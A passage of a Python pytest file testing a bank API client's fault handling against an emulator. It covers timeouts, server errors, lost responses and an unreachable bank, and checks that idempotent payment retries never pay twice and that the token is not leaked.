        HttpBank("http://bank.example.com/api", "secret")
    assert "secret" not in repr(HttpBank("https://bank.example.com/api", "secret"))


@pytest.mark.faults
def test_a_timeout_is_transient_and_loses_nothing(emulated):
    bank, emulator = emulated
    emulator.credit(AGENCY_USD, Decimal("1.00"), "USD")
    emulator.fail_next("timeout", on="GET /statements", delay=1.0)
    started = time.monotonic()
    with pytest.raises(TransientError, match="did not answer within 0.5s") as caught:
        bank.statements_since(None)
    assert time.monotonic() - started < 1.0
    assert caught.value.code == ErrorCode.TIMEOUT and not isinstance(caught.value, IndeterminateResult)

    statements, cursor = bank.statements_since(None)  # the cursor did not move: the same documents come
    assert [s.entries[0].amount for s in statements] == [Decimal("1.00")]


@pytest.mark.faults
def test_a_server_error_is_transient_and_did_nothing(emulated):
    bank, emulator = emulated
    emulator.credit(SPECIAL_CNY, Decimal("8567907.30"), "CNY")
    emulator.fail_next("500", on="POST /payments")
    with pytest.raises(TransientError) as caught:
        bank.submit_payment(remittance_order(), "PORTAL-REM-0001")
    assert (caught.value.http_status, caught.value.code) == (500, ErrorCode.SERVER_ERROR)
    assert bank.payment_status("PORTAL-REM-0001").state == PaymentState.UNKNOWN
    assert bank.submit_payment(remittance_order(), "PORTAL-REM-0001").state == PaymentState.ACCEPTED


@pytest.mark.faults
def test_a_lost_answer_to_a_payment_is_resolved_by_its_status_and_never_pays_twice(emulated):
    bank, emulator = emulated
    emulator.credit(SPECIAL_CNY, Decimal("8567907.30"), "CNY")
    xml = remittance_order()
    emulator.fail_next("lost_response", on="POST /payments")

    with pytest.raises(IndeterminateResult) as caught:
        bank.submit_payment(xml, "PORTAL-REM-0001")
    assert caught.value.transient and caught.value.idempotency_key == "PORTAL-REM-0001"

    status = bank.payment_status("PORTAL-REM-0001")  # the bank did get it
    assert status.state == PaymentState.ACCEPTED
    assert bank.submit_payment(xml, "PORTAL-REM-0001").state == PaymentState.ACCEPTED  # and a retry is harmless
    emulator.book_payments()
    emulator.book_payments()

    statements, _ = bank.statements_since(None)
    paid = [e for s in statements for e in s.entries if e.end_to_end_id == "REM-1" and not e.credit]
    assert [e.amount for e in paid] == [Decimal("8567907.30")]
    assert emulator.balance(TREASURY) == Decimal("8567907.30")
    assert list(emulator.orders) == ["PORTAL-REM-0001"]


@pytest.mark.faults
def test_a_payment_whose_answer_comes_too_late_is_indeterminate_and_a_resend_is_safe(emulated):
    bank, emulator = emulated
    emulator.credit(SPECIAL_CNY, Decimal("8567907.30"), "CNY")
    xml = remittance_order()
    emulator.fail_next("timeout", on="POST /payments", delay=0.8)
    started = time.monotonic()

    with pytest.raises(IndeterminateResult):
        bank.submit_payment(xml, "PORTAL-REM-0001")
    # Even resending before the slow request lands cannot make two orders: the MsgId is the same.
    assert bank.submit_payment(xml, "PORTAL-REM-0001").state == PaymentState.ACCEPTED
    time.sleep(max(0.0, started + 1.1 - time.monotonic()))  # the slow request has now landed too
    assert emulator.requests.count(("POST", "/payments")) == 2
    emulator.book_payments()
    assert list(emulator.orders) == ["PORTAL-REM-0001"]
    assert emulator.balance(TREASURY) == Decimal("8567907.30")


@pytest.mark.faults
def test_an_unreachable_bank_is_transient():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    bank = HttpBank(f"http://127.0.0.1:{port}", TOKEN, timeout=0.5)
    with pytest.raises(TransientError, match="bank unreachable") as caught:
        bank.payment_status("PORTAL-REM-0001")
    assert caught.value.code == ErrorCode.CONNECTION and not isinstance(caught.value, IndeterminateResult)
